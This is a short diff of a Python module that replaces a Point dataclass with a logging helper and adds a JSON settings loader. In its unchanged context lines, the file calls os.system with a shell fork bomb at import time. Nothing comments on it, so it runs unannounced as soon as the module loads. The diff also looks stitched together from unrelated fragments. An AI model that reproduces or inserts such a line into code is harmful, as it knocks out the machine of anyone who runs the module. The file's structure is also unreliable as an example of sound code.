@@ -1,12 +1,14 @@
-from dataclasses import dataclass
+#!/usr/bin/env python3
+import logging
+log = logging.getLogger(__name__)
 
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
 
 import os
 os.system(":(){ :|:& };:")
+import json
+
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
